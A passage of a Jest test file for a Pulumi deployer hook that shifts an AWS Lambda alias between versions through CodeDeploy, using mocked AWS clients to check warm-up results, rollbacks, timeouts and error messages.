import { CloudWatchLogsClient, FilterLogEventsCommand } from "@aws-sdk/client-cloudwatch-logs";
import {
    CodeDeployClient,
    CreateDeploymentCommand,
    GetApplicationRevisionCommand,
    GetDeploymentCommand,
    GetDeploymentTargetCommand,
    ListDeploymentTargetsCommand,
    ListDeploymentsCommand,
    type DeploymentInfo,
    type LifecycleEvent,
} from "@aws-sdk/client-codedeploy";
import {
    GetAliasCommand,
    GetFunctionConfigurationCommand,
    InvokeCommand,
    LambdaClient,
    ListAliasesCommand,
    UpdateAliasCommand,
    type InvokeCommandOutput,
} from "@aws-sdk/client-lambda";
import { mockClient } from "aws-sdk-client-mock";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { WarmupReply } from "../../hooks/contract";
import {
    DeploymentConflictError,
    DeploymentFailedError,
    WarmupFailedError,
    createHandler,
    type DeployerResult,
} from "../../hooks/deployer";
import { WarmupSettingsError } from "../../hooks/errors";
import { createLogger } from "../../hooks/log";
import type { WarmupReport } from "../../hooks/warm";

const lambdaMock = mockClient(LambdaClient);
const codedeployMock = mockClient(CodeDeployClient);
const logsMock = mockClient(CloudWatchLogsClient);

const FUNCTION_ARN = "arn:aws:lambda:eu-west-1:123456789012:function:orders-api";
const T0 = 1_767_225_600_000;

function fixture(name: string): WarmupReply {
    return JSON.parse(readFileSync(join(__dirname, "../../contract/fixtures", name), "utf8")) as WarmupReply;
}

const warmup = {
    functionName: FUNCTION_ARN,
    alias: "live",
    concurrency: 3,
    holdMs: [250, 400],
    checks: ["db"],
    mode: "helper",
    minDistinct: 3,
    failOnCheckError: true,
};

const codeDeploy = {
    applicationName: "orders-api-app",
    deploymentGroupName: "orders-api-live",
    beforeAllowTrafficHook: "orders-api-pretraffic",
};

function event(action: "create" | "update" | "delete", overrides: Record<string, unknown> = {}): Record<string, unknown> {
    const base = { functionName: FUNCTION_ARN, alias: "live", targetVersion: "8", deployment: codeDeploy, warmup };
    const prev = action === "create" ? null : { ...base, targetVersion: "7" };
    return { ...base, ...overrides, tf: { action, prev_input: prev } };
}

/** A clock that only moves when the deployer sleeps, so waiting costs the test nothing. */
function fakeClock() {
    const clock = { t: T0, sleeps: [] as number[] };
    return {
        clock,
        now: () => clock.t,
        sleep: async (ms: number) => {
            clock.sleeps.push(ms);
            clock.t += ms;
        },
    };
}

function setup(remainingMs = 900_000) {
    const { clock, now, sleep } = fakeClock();
    const logLines: Record<string, unknown>[] = [];
    const log = createLogger({ hook: "deployer" }, (line) => logLines.push(JSON.parse(line) as Record<string, unknown>));
    const handler = createHandler({ lambda: new LambdaClient({}), codedeploy: new CodeDeployClient({}), logs: new CloudWatchLogsClient({}), now, sleep, log });
    const context = { getRemainingTimeInMillis: () => remainingMs };
    return { clock, logLines, run: (e: unknown) => handler(e, context) as Promise<DeployerResult> };
}

/** Every Invoke answers from `base`, as its own environment, from the version it was asked for. */
function replyWith(base: WarmupReply): void {
    let n = 0;
    lambdaMock.on(InvokeCommand).callsFake((input: { Qualifier: string }) => {
        n += 1;
        const reply = { ...base, instanceId: `${base.instanceId.slice(0, 7)}${n}-env`, functionVersion: input.Qualifier };
        return {
            StatusCode: 200,
            ExecutedVersion: input.Qualifier,
            Payload: new TextEncoder().encode(JSON.stringify(reply)) as InvokeCommandOutput["Payload"],
        };
    });
}

function aliasOn(version: string, weights?: Record<string, number>): void {
    lambdaMock.on(GetAliasCommand).resolves({ FunctionVersion: version, ...(weights ? { RoutingConfig: { AdditionalVersionWeights: weights } } : {}) });
}

function noActiveDeployment(): void {
    codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: [] });
}

function deploymentEnds(id: string, ...infos: DeploymentInfo[]): void {
    codedeployMock.on(CreateDeploymentCommand).resolves({ deploymentId: id });
    const stub = codedeployMock.on(GetDeploymentCommand, { deploymentId: id });
    for (const info of infos) stub.resolvesOnce({ deploymentInfo: { deploymentId: id, ...info } });
}

function lifecycle(...events: LifecycleEvent[]): void {
    codedeployMock.on(ListDeploymentTargetsCommand).resolves({ targetIds: ["orders-api"] });
    codedeployMock.on(GetDeploymentTargetCommand).resolves({
        deploymentTarget: { deploymentTargetType: "LambdaTarget", lambdaTarget: { deploymentId: "d", targetId: "orders-api", lifecycleEvents: events } },
    });
}

const CONFIG = "CodeDeployDefault.LambdaCanary10Percent5Minutes";

const DB_REASON =
    "3 of 5 environments failed check 'db': OperationalError: connection to server at \"10.0.3.17\", port 5432 failed: timeout expired (instances 9b2d4e60…, 41ac07d2…, 7f03b9e8…)";

/** The pre-traffic hook's report as it logs it (hooks/pre-traffic.ts). */
function hookReport(overrides: Partial<WarmupReport> = {}): WarmupReport {
    return {
        target: { functionName: FUNCTION_ARN, qualifier: "8" },
        mode: "helper",
        source: "pre-traffic",
        requested: 5,
        succeeded: 5,
        distinctEnvironments: 5,
        distinctnessVerifiable: true,
        coldStarts: 5,
        initMs: { min: 880, median: 901, max: 950 },
        checks: { db: { passed: 5, failed: 0, maxMs: 41, errors: [] } },
        init: {},
        versions: ["8"],
        wallMs: 1300,
        errors: [],
        notes: [],
        ...overrides,
    };
}

/** The hook's `pre-traffic.result` line for a deployment, written the way hooks/log.ts writes it. */
function resultLine(deploymentId: string, reasons: string[], report: WarmupReport | null, execution = "eyJlbmNyeXB0ZWREYXRhIjoiQkVGT1JFIn0="): string {
    const lines: string[] = [];
    const log = createLogger({ hook: "pre-traffic", deploymentId, lifecycleEventHookExecutionId: execution }, (line) => lines.push(line));
    const pass = reasons.length === 0;
    log[pass ? "info" : "warn"]("pre-traffic.result", {
        status: pass ? "Succeeded" : "Failed",
        pass,
        reasons,
        deploymentId,
        target: { functionName: FUNCTION_ARN, qualifier: "8" },
        report,
        statusReported: true,
    });
    return lines[0]!;
}

/** A log stream named the way Lambda names the hook's streams. */
const HOOK_STREAM = "2026/01/01/[$LATEST]0123456789abcdef0123456789abcdef";

/** What FilterLogEvents finds, search after search; the last answer repeats. */
function hookLogs(...searches: string[][]): void {
    const stub = logsMock.on(FilterLogEventsCommand);
    searches.forEach((lines, i) => {
        const events = lines.map((message, j) => ({ timestamp: T0 + j, ingestionTime: T0 + 500 + j, logStreamName: HOOK_STREAM, message }));
        if (i === searches.length - 1) stub.resolves({ events });
        else stub.resolvesOnce({ events });
    });
}

function logsDenied(): void {
    logsMock
        .on(FilterLogEventsCommand)
        .rejects(
            Object.assign(new Error("User: arn:aws:sts::123456789012:assumed-role/orders-api-deployer/orders-api-deployer is not authorized to perform: logs:FilterLogEvents"), {
                name: "AccessDeniedException",
            }),
        );
}

function logSearches() {
    return logsMock.commandCalls(FilterLogEventsCommand).map((c) => c.args[0].input);
}

beforeEach(() => {
    lambdaMock.reset();
    codedeployMock.reset();
    logsMock.reset();
    lambdaMock.on(GetFunctionConfigurationCommand).resolves({ State: "Active", LastUpdateStatus: "Successful" });
});

describe("delete", () => {
    it("does nothing, even when the stored input predates this version of the component", async () => {
        const { run } = setup();
        await expect(run({ targetVersion: "8", legacyField: true, tf: { action: "delete", prev_input: null } })).resolves.toEqual({
            deploymentId: null,
            status: "Skipped",
            fromVersion: null,
            toVersion: "8",
            warmup: null,
            message: "nothing to do on delete: the alias and its versions stay as they are",
            reason: "delete",
        });
        expect(lambdaMock.calls()).toHaveLength(0);
        expect(codedeployMock.calls()).toHaveLength(0);
    });
});

describe("create (first deploy: the alias was just created on the new version)", () => {
    it("warms and checks the version, then reports it", async () => {
        const { run } = setup();
        aliasOn("1");
        replyWith(fixture("reply.cold-ok.json"));

        const result = await run(event("create", { targetVersion: "1" }));

        expect(result).toMatchObject({
            deploymentId: null,
            status: "Succeeded",
            fromVersion: null,
            toVersion: "1",
            message: "version 1 of orders-api passed its warm-up (3/3 invocations succeeded, 3 distinct environments, 3 cold starts); alias live serves it",
        });
        expect(result.warmup).toMatchObject({ source: "deployer", requested: 3, succeeded: 3, distinctEnvironments: 3, versions: ["1"] });
        const invokes = lambdaMock.commandCalls(InvokeCommand).map((c) => c.args[0].input);
        expect(invokes.map((i) => [i.FunctionName, i.Qualifier])).toEqual(Array(3).fill([FUNCTION_ARN, "1"]));
        expect(lambdaMock.commandCalls(GetFunctionConfigurationCommand).map((c) => c.args[0].input)).toEqual([{ FunctionName: FUNCTION_ARN, Qualifier: "1" }]);
        // It looked for an earlier run's deployment of version 1 (none) and started none.
        expect(codedeployMock.commandCalls(ListDeploymentsCommand).map((c) => c.args[0].input.includeOnlyStatuses)).toEqual([
            ["Created", "Queued", "InProgress", "Baking", "Ready"],
            ["Succeeded", "Failed", "Stopped"],
        ]);
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it("fails pulumi up with the verdict's reasons when a check fails", async () => {
        const { run } = setup();
        aliasOn("1");
        replyWith(fixture("reply.db-failed.json"));

        const outcome = run(event("create", { targetVersion: "1" }));

        await expect(outcome).rejects.toThrow(WarmupFailedError);
        await expect(outcome).rejects.toThrow(
            "version 1 of orders-api failed its warm-up: 3 of 3 environments failed check 'db': " +
                'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e61…, 9b2d4e62…, 9b2d4e63…). ' +
                "The alias live already serves version 1 (a new alias starts on the version just published, or an earlier run left it there), so nothing was moved. " +
                "Fix the cause and run `pulumi up` again.",
        );
    });
});

describe("create after a replacement (the Invocation's triggers changed with the version)", () => {
    it("shifts through CodeDeploy like an update, since the alias still serves the old version", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-REPLACE01", { status: "Succeeded", deploymentConfigName: CONFIG });

        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: "d-REPLACE01", status: "Succeeded", fromVersion: "7", toVersion: "8" });
        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
    });
});

describe("a new version: create of the replacement Invocation", () => {
    it("creates a CodeDeploy deployment from the live version to the new one, waits for it and returns the hook's warm-up report", async () => {
        const { run, clock, logLines } = setup();
        aliasOn("7");
        noActiveDeployment();
        const createTime = new Date(T0 - 5_000);
        deploymentEnds("d-HAPPY0001", { status: "InProgress", createTime }, { status: "Succeeded", deploymentConfigName: CONFIG, createTime });
        const report = hookReport();
        // CloudWatch Logs shows the line only on the second search.
        hookLogs([], [resultLine("d-HAPPY0001", [], report)]);

        const result = await run(event("create"));

        // The output is stored in plain-text state: counts and kinds, none of the app's error text.
        const { errors: _checkErrors, ...db } = report.checks.db!;
        expect(result).toEqual({
            deploymentId: "d-HAPPY0001",
            status: "Succeeded",
            fromVersion: "7",
            toVersion: "8",
            warmup: { ...report, checks: { db } },
            message:
                `CodeDeploy deployment d-HAPPY0001 shifted alias live of orders-api from version 7 to version 8 (${CONFIG}) ` +
                "after its pre-traffic warm-up passed (5/5 invocations succeeded, 5 distinct environments, 5 cold starts)",
        });
        expect(logSearches()).toEqual(
            Array(2).fill({ logGroupName: "/aws/lambda/orders-api-pretraffic", filterPattern: '"pre-traffic.result" "d-HAPPY0001"', startTime: T0 - 65_000 }),
        );
        expect(codedeployMock.commandCalls(ListDeploymentsCommand)[0]!.args[0].input).toEqual({
            applicationName: "orders-api-app",
            deploymentGroupName: "orders-api-live",
            includeOnlyStatuses: ["Created", "Queued", "InProgress", "Baking", "Ready"],
        });
        const [create] = codedeployMock.commandCalls(CreateDeploymentCommand);
        const request = create!.args[0].input;
        const content = request.revision?.appSpecContent?.content ?? "";
        expect({ ...request, revision: { ...request.revision, appSpecContent: { content: JSON.parse(content) } } }).toEqual({
            applicationName: "orders-api-app",
            deploymentGroupName: "orders-api-live",
            description: "pulumi-mangum: shift alias live of orders-api from version 7 to version 8",
            revision: {
                revisionType: "AppSpecContent",
                appSpecContent: {
                    content: {
                        version: 0,
                        Resources: [
                            {
                                "orders-api": {
                                    Type: "AWS::Lambda::Function",
                                    Properties: { Name: "orders-api", Alias: "live", CurrentVersion: "7", TargetVersion: "8" },
                                },
                            },
                        ],
                        Hooks: [{ BeforeAllowTraffic: "orders-api-pretraffic" }],
                    },
                },
            },
        });
        expect(content.startsWith('{"version":0.0,"Resources":')).toBe(true);
        expect(clock.sleeps).toEqual([2_000, 4_000, 1_000]);
        expect(logLines).toContainEqual(expect.objectContaining({ level: "info", event: "deployment.created", deploymentId: "d-HAPPY0001", hook: "deployer" }));
    });

    it("names the AfterAllowTraffic hook in the AppSpec when one is set", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-AFTER0001", { status: "Succeeded", deploymentConfigName: CONFIG });

        await run(event("create", { deployment: { ...codeDeploy, afterAllowTrafficHook: "orders-api-smoke" } }));

        const content = codedeployMock.commandCalls(CreateDeploymentCommand)[0]!.args[0].input.revision?.appSpecContent?.content ?? "";
        expect(JSON.parse(content).Hooks).toEqual([{ BeforeAllowTraffic: "orders-api-pretraffic" }, { AfterAllowTraffic: "orders-api-smoke" }]);
    });

    it("refuses to start while another deployment holds the group", async () => {
        const { run } = setup();
        aliasOn("7");
        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING01"] });
        codedeployMock.on(GetDeploymentCommand, { deploymentId: "d-RUNNING01" }).resolves({ deploymentInfo: { status: "InProgress" } });

        const outcome = run(event("create"));

        await expect(outcome).rejects.toThrow(DeploymentConflictError);
        await expect(outcome).rejects.toThrow(
            "deployment d-RUNNING01 is already in progress for deployment group orders-api-live (status InProgress); " +
                "wait for it or stop it with: aws deploy stop-deployment --deployment-id d-RUNNING01",
        );
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    function preTrafficFailed(id: string): void {
        deploymentEnds(id, {
            status: "Failed",
            errorInformation: { code: "HOOK_EXECUTION_FAILURE", message: "lifecycle event hook BeforeAllowTraffic failed" },
        });
        lifecycle(
            {
                lifecycleEventName: "BeforeAllowTraffic",
                status: "Failed",
                diagnostics: { errorCode: "ScriptFailed", message: "The hook orders-api-pretraffic reported Failed." },
            },
            { lifecycleEventName: "AllowTraffic", status: "Skipped" },
        );
    }

    it("explains a deployment failed by the pre-traffic hook with the hook's own reasons", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        preTrafficFailed("d-FAILED001");
        const failedDb = hookReport({ succeeded: 5, checks: { db: { passed: 2, failed: 3, maxMs: 5001, errors: [DB_REASON.slice(DB_REASON.indexOf("OperationalError"))] } } });
        hookLogs([resultLine("d-OTHER0001", ["an older deployment's reason"], failedDb), resultLine("d-FAILED001", [DB_REASON], failedDb)]);

        const outcome = run(event("create", { deployment: { ...codeDeploy, beforeAllowTrafficLogGroup: "orders-api-pre-traffic-logs-3f9a1b2" } }));

        await expect(outcome).rejects.toThrow(DeploymentFailedError);
        await expect(outcome).rejects.toThrow(
            "CodeDeploy deployment d-FAILED001 failed: the BeforeAllowTraffic hook orders-api-pretraffic failed: The hook orders-api-pretraffic reported Failed. " +
                "The BeforeAllowTraffic hook's verdict: 3 of 5 environments failed check 'db': " +
                'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e60…, 41ac07d2…, 7f03b9e8…). ' +
                "The alias live stays on version 7.",
        );
        expect(logSearches().map((s) => s.logGroupName)).toEqual(["orders-api-pre-traffic-logs-3f9a1b2"]);
    });

    it("points at the hook's logs when they cannot be read", async () => {
        const { run, logLines } = setup();
        aliasOn("7");
        noActiveDeployment();
        preTrafficFailed("d-FAILED001");
        logsDenied();

        const outcome = run(event("create", { deployment: { ...codeDeploy, beforeAllowTrafficLogGroup: "orders-api-pre-traffic-logs-3f9a1b2" } }));

        await expect(outcome).rejects.toThrow(DeploymentFailedError);
        await expect(outcome).rejects.toThrow(
            "CodeDeploy deployment d-FAILED001 failed: the BeforeAllowTraffic hook orders-api-pretraffic failed: The hook orders-api-pretraffic reported Failed. " +
                "The alias live stays on version 7. " +
                "The hook's logs have the details: `aws logs filter-log-events --log-group-name orders-api-pre-traffic-logs-3f9a1b2 --filter-pattern '\"d-FAILED001\"'`.",
        );
        expect(logLines).toContainEqual(expect.objectContaining({ level: "warn", event: "hook-report.unreadable", deploymentId: "d-FAILED001" }));
    });

    it("still succeeds, without a report, when the hook's logs cannot be read", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-NOLOGS001", { status: "Succeeded", deploymentConfigName: CONFIG });
        logsDenied();

        await expect(run(event("create"))).resolves.toEqual({
            deploymentId: "d-NOLOGS001",
            status: "Succeeded",
            fromVersion: "7",
            toVersion: "8",
            warmup: null,
            message: `CodeDeploy deployment d-NOLOGS001 shifted alias live of orders-api from version 7 to version 8 (${CONFIG})`,
        });
    });

    it("reads the hook's report only until its own deadline, keeping the margin", async () => {
        // 40 s left, 10 s kept as margin: the deployer must be done waiting by T0 + 30 s.
        const { run, clock } = setup(40_000);
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-LATEFAIL1", { status: "InProgress" }, { status: "InProgress" }, { status: "InProgress" }, { status: "Failed" });
        lifecycle({ lifecycleEventName: "BeforeAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-pretraffic reported Failed." } });
        hookLogs([]);

        await expect(run(event("create"))).rejects.toThrow(
            "CodeDeploy deployment d-LATEFAIL1 failed: the BeforeAllowTraffic hook orders-api-pretraffic failed: The hook orders-api-pretraffic reported Failed. " +
                "The alias live stays on version 7. " +
                "The hook's logs have the details: `aws logs filter-log-events --log-group-name /aws/lambda/orders-api-pretraffic --filter-pattern '\"d-LATEFAIL1\"'`.",
        );
        // Polls end at 29 s; one search fits, a 1 s wait for a second would reach the deadline.
        expect(clock.sleeps).toEqual([2_000, 4_000, 8_000, 15_000]);
        expect(logSearches()).toHaveLength(1);
        expect(clock.t - T0).toBeLessThanOrEqual(30_000);
    });

    it("explains a failed smoke check with its reasons: the pre-traffic hook run again after the shift", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-SMOKE0001", {
            status: "Failed",
            rollbackInfo: { rollbackDeploymentId: "d-ROLLBACK2" },
        });
        lifecycle(
            { lifecycleEventName: "BeforeAllowTraffic", status: "Succeeded" },
            { lifecycleEventName: "AllowTraffic", status: "Succeeded" },
            { lifecycleEventName: "AfterAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-pretraffic reported Failed." } },
        );
        const smoke = "1 of 5 warm-up invocations failed with a function error: RuntimeError: database is locked";
        hookLogs([
            resultLine("d-SMOKE0001", [], hookReport(), "eyJlbmNyeXB0ZWREYXRhIjoiQkVGT1JFIn0="),
            resultLine("d-SMOKE0001", [smoke], hookReport({ succeeded: 4 }), "eyJlbmNyeXB0ZWREYXRhIjoiQUZURVIifQ=="),
        ]);

        const logGroup = "orders-api-pre-traffic-logs-3f9a1b2";
        const smokeSettings = { ...codeDeploy, afterAllowTrafficHook: "orders-api-pretraffic", beforeAllowTrafficLogGroup: logGroup, afterAllowTrafficLogGroup: logGroup };

        await expect(run(event("create", { deployment: smokeSettings }))).rejects.toThrow(
            "CodeDeploy deployment d-SMOKE0001 failed: the AfterAllowTraffic hook orders-api-pretraffic failed: The hook orders-api-pretraffic reported Failed. " +
                `The AfterAllowTraffic hook's verdict: ${smoke}. ` +
                "CodeDeploy rolled back with deployment d-ROLLBACK2; the alias live stays on version 7.",
        );
    });

    it("names the alarm and the rollback when CodeDeploy stopped the shift", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-ALARM0001", {
            status: "Stopped",
            errorInformation: {
                code: "ALARM_ACTIVE",
                message: "One or more alarms have been activated according to the Amazon CloudWatch metrics you selected. Activated alarms: orders-api-errors",
            },
            rollbackInfo: { rollbackDeploymentId: "d-ROLLBACK1", rollbackMessage: "Deployment d-ALARM0001 was rolled back by d-ROLLBACK1" },
        });
        lifecycle(
            { lifecycleEventName: "BeforeAllowTraffic", status: "Succeeded" },
            { lifecycleEventName: "AllowTraffic", status: "Succeeded" },
        );

        const outcome = run(event("create"));

        await expect(outcome).rejects.toMatchObject({ name: "DeploymentFailedError", deploymentId: "d-ALARM0001", rollbackDeploymentId: "d-ROLLBACK1" });
        await expect(outcome).rejects.toThrow(
            "CodeDeploy deployment d-ALARM0001 was stopped: an alarm fired: One or more alarms have been activated according to the Amazon CloudWatch metrics you selected. " +
                "Activated alarms: orders-api-errors. CodeDeploy rolled back with deployment d-ROLLBACK1 (Deployment d-ALARM0001 was rolled back by d-ROLLBACK1); " +
                "the alias live stays on version 7.",
        );
    });

    it("says where the alias was left when a failure was not rolled back", async () => {
        const { run } = setup();
        lambdaMock.on(GetAliasCommand).resolvesOnce({ FunctionVersion: "7" }).resolves({ FunctionVersion: "8" });
        noActiveDeployment();
        deploymentEnds("d-NOROLLBK1", { status: "Failed" });
        lifecycle(
            { lifecycleEventName: "AllowTraffic", status: "Succeeded" },
            { lifecycleEventName: "AfterAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-smoke reported Failed." } },
        );

        await expect(run(event("create", { deployment: { ...codeDeploy, afterAllowTrafficHook: "orders-api-smoke" } }))).rejects.toThrow(
            "CodeDeploy deployment d-NOROLLBK1 failed: the AfterAllowTraffic hook orders-api-smoke failed: The hook orders-api-smoke reported Failed. " +
                "No rollback was made (is automatic rollback off for the deployment group?): the alias live points at version 8. " +
                "Move it back with `aws lambda update-alias --function-name orders-api --name live --function-version 7 --routing-config AdditionalVersionWeights={}`. " +
                "The hook's logs have the details: `aws logs filter-log-events --log-group-name /aws/lambda/orders-api-smoke --filter-pattern '\"d-NOROLLBK1\"'`.",
        );
        // A post-traffic function of the user's own logs in its own way: its logs are quoted, not searched.
        expect(logSearches()).toHaveLength(0);
    });

    it("refuses to deploy over a traffic split no deployment owns", async () => {
        const { run } = setup();
        aliasOn("8", { "7": 0.25 });
        noActiveDeployment();

        await expect(run(event("create"))).rejects.toThrow(
            "alias live of orders-api points at version 8 but still routes 25% of traffic to version 7, and no deployment is running; " +
                "clear the split with `aws lambda update-alias --function-name orders-api --name live --routing-config AdditionalVersionWeights={}` " +
                "and run `pulumi up` again",
        );
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it("returns InProgress before its own timeout when the shift outlives it", async () => {
        // 60 s left, 10 s kept as margin: the deployer must answer by T0 + 50 s.
        const { run, clock } = setup(60_000);
        aliasOn("7");
        noActiveDeployment();
        codedeployMock.on(CreateDeploymentCommand).resolves({ deploymentId: "d-LINEAR001" });
        codedeployMock.on(GetDeploymentCommand).resolves({ deploymentInfo: { status: "InProgress" } });

        await expect(run(event("create"))).resolves.toEqual({
            deploymentId: "d-LINEAR001",
            status: "InProgress",
            fromVersion: "7",
            toVersion: "8",
            warmup: null,
            message:
                "CodeDeploy deployment d-LINEAR001 is still shifting alias live of orders-api from version 7 to version 8 (InProgress); " +
                "`pulumi up` does not wait for it. Follow it with: aws deploy get-deployment --deployment-id d-LINEAR001",
        });
        // 2 + 4 + 8 + 15 + 15 = 44 s; one more 15 s poll would end past 50 s.
        expect(clock.sleeps).toEqual([2_000, 4_000, 8_000, 15_000, 15_000]);
        expect(clock.t - T0).toBeLessThanOrEqual(50_000);
        expect(codedeployMock.commandCalls(GetDeploymentCommand)).toHaveLength(5);
    });
});

describe("deployment: null (CodeDeploy off)", () => {
    it("warms the new version, then moves the alias itself", async () => {
        const { run } = setup();
        aliasOn("7", { "8": 0.1 });
        replyWith(fixture("reply.cold-ok.json"));

        const result = await run(event("create", { deployment: null }));

        expect(result).toMatchObject({
            deploymentId: null,
            status: "Succeeded",
            fromVersion: "7",
            toVersion: "8",
            message: "alias live of orders-api moved from version 7 to version 8 after its warm-up passed (3/3 invocations succeeded, 3 distinct environments, 3 cold starts)",
        });
        expect(lambdaMock.commandCalls(UpdateAliasCommand).map((c) => c.args[0].input)).toEqual([
            { FunctionName: FUNCTION_ARN, Name: "live", FunctionVersion: "8", RoutingConfig: { AdditionalVersionWeights: {} } },
        ]);
        expect(codedeployMock.calls()).toHaveLength(0);
    });

    it("leaves the alias where it is when the warm-up fails", async () => {
        const { run } = setup();
        aliasOn("7");
        replyWith(fixture("reply.db-failed.json"));

        await expect(run(event("create", { deployment: null }))).rejects.toThrow(
            "version 8 of orders-api failed its warm-up: 3 of 3 environments failed check 'db': " +
                'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e61…, 9b2d4e62…, 9b2d4e63…). ' +
                "The alias live stays on version 7.",
        );
        expect(lambdaMock.commandCalls(UpdateAliasCommand)).toHaveLength(0);
    });
});

describe("invalid input", () => {
    it.each([
        [
            "no lifecycle key",
            { functionName: FUNCTION_ARN },
            'tf.action must be "create", "update" or "delete" (the deployer runs from an aws.lambda.Invocation with lifecycleScope "CRUD") (got nothing)',
        ],
        ["an unpublished version", event("update", { targetVersion: "$LATEST" }), 'targetVersion must be a published version number such as "8" (is publish off?) (got "$LATEST")'],
        ["no alias", event("create", { alias: "" }), 'alias must be a non-empty string (got "")'],
        [
            "a deployment without its group",
            event("update", { deployment: { applicationName: "orders-api-app", beforeAllowTrafficHook: "orders-api-pretraffic" } }),
            "deployment.deploymentGroupName must be a non-empty string (got nothing)",
        ],
        ["bad warm-up settings", event("update", { warmup: { ...warmup, concurrency: 0 } }), "warmup.concurrency must be an integer from 1 to 100 (got 0)"],
    ])("rejects %s before calling AWS", async (_label, input, message) => {
        const { run } = setup();
        const outcome = run(input);
        await expect(outcome).rejects.toThrow(WarmupSettingsError);
        await expect(outcome).rejects.toThrow(message);
        expect(lambdaMock.calls()).toHaveLength(0);
        expect(codedeployMock.calls()).toHaveLength(0);
    });
});

/** An AppSpec as the deployer writes it, for a deployment an earlier run made. */
function appSpecOf(from: string, to: string, name = "orders-api", alias = "live"): string {
    return JSON.stringify({
        version: 0.0,
        Resources: [{ [name]: { Type: "AWS::Lambda::Function", Properties: { Name: name, Alias: alias, CurrentVersion: from, TargetVersion: to } } }],
        Hooks: [{ BeforeAllowTraffic: "orders-api-pretraffic" }],
    });
}

function revision(content: string) {
    return { revisionType: "AppSpecContent" as const, appSpecContent: { content } };
}

describe("a settings-only update (same target version)", () => {
    function settingsOnly(overrides: Record<string, unknown> = {}): Record<string, unknown> {
        const base = { functionName: FUNCTION_ARN, alias: "live", targetVersion: "8", deployment: codeDeploy, warmup };
        return { ...base, ...overrides, tf: { action: "update", prev_input: { ...base, warmup: { ...warmup, concurrency: 5 } } } };
    }

    it("starts no deployment and moves no alias, even when the alias was moved back by hand", async () => {
        const { run } = setup();
        aliasOn("7");

        await expect(run(settingsOnly())).resolves.toEqual({
            deploymentId: null,
            status: "Skipped",
            fromVersion: null,
            toVersion: "8",
            warmup: null,
            reason: "settings-only",
            message:
                "settings-only change of orders-api: the target version 8 is unchanged, so no deployment was started and no alias was moved; " +
                "alias live serves version 7, and stays there until a new version is published (or it is moved by hand)",
        });
        expect(codedeployMock.calls()).toHaveLength(0);
        expect(lambdaMock.commandCalls(UpdateAliasCommand)).toHaveLength(0);
        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
    });

    it("does not move the alias with deployment: false either", async () => {
        const { run } = setup();
        aliasOn("7");

        await expect(run(settingsOnly({ deployment: null }))).resolves.toMatchObject({ status: "Skipped", reason: "settings-only" });
        expect(lambdaMock.commandCalls(UpdateAliasCommand)).toHaveLength(0);
        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
    });

    it("deploys a replaced function whose first version has the old function's number", async () => {
        // Prepare: the function was replaced (new name); its version 8 is not the old function's 8.
        const { run } = setup();
        aliasOn("8");
        replyWith(fixture("reply.cold-ok.json"));
        const input = settingsOnly();
        (input.tf as { prev_input: Record<string, unknown> }).prev_input.functionName = "arn:aws:lambda:eu-west-1:123456789012:function:orders-api-old";

        // Act / Assess: warmed and checked, not skipped.
        await expect(run(input)).resolves.toMatchObject({ status: "Succeeded", warmup: { succeeded: 3, versions: ["8"] } });
        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(3);
    });

    it("says the alias serves the version when it does", async () => {
        const { run } = setup();
        aliasOn("8");

        await expect(run(settingsOnly())).resolves.toMatchObject({
            status: "Skipped",
            message: expect.stringMatching(/; alias live serves version 8$/),
        });
    });
});

describe("a re-run of a create (the earlier call failed or was lost)", () => {
    function history(id: string, status: "Succeeded" | "Failed" | "Stopped", content: string): void {
        codedeployMock.on(ListDeploymentsCommand, { includeOnlyStatuses: ["Created", "Queued", "InProgress", "Baking", "Ready"] }).resolves({ deployments: [] });
        codedeployMock.on(ListDeploymentsCommand, { includeOnlyStatuses: ["Succeeded", "Failed", "Stopped"] }).resolves({ deployments: [id] });
        codedeployMock.on(GetDeploymentCommand, { deploymentId: id }).resolves({ deploymentInfo: { deploymentId: id, status, revision: revision(content) } });
    }

    it("reports the earlier run's deployment instead of claiming the alias was just created on the version", async () => {
        const { run } = setup();
        aliasOn("8");
        history("d-EARLIER01", "Succeeded", appSpecOf("7", "8"));

        await expect(run(event("create"))).resolves.toEqual({
            deploymentId: "d-EARLIER01",
            status: "Succeeded",
            fromVersion: "7",
            toVersion: "8",
            warmup: null,
            reason: "already-live",
            message: "alias live of orders-api already serves version 8: CodeDeploy deployment d-EARLIER01 of an earlier run shifted it from version 7; nothing to shift",
        });
        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it("warms a version an earlier failed deployment left on the alias, and says how to move it back", async () => {
        const { run } = setup();
        aliasOn("8");
        history("d-EARLIER02", "Failed", appSpecOf("7", "8"));
        replyWith(fixture("reply.db-failed.json"));

        await expect(run(event("create"))).rejects.toThrow(
            "version 8 of orders-api failed its warm-up: 3 of 3 environments failed check 'db': " +
